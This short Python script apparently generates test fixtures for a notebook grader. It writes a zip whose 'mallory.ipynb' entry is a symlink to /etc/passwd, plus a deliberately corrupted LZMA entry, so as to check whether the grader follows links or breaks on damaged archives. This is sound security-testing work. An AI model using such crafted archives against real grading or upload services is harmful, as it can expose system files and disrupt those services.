# Aim: have the grader follow a link that lies in a zip.
import random
import zipfile


def make(folder):
    with zipfile.ZipFile(folder / "class.zip", "w") as archive:
        link = zipfile.ZipInfo("mallory.ipynb")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
        damaged = zipfile.ZipInfo("mallory2.ipynb")
        damaged.compress_type = zipfile.ZIP_LZMA
        archive.writestr(damaged, random.Random(0).randbytes(5000))
    raw = bytearray((folder / "class.zip").read_bytes())
    place = raw.index(b"mallory2.ipynb") + len(b"mallory2.ipynb")
    raw[place : place + 60] = b"\xff" * 60
    (folder / "class.zip").write_bytes(raw)
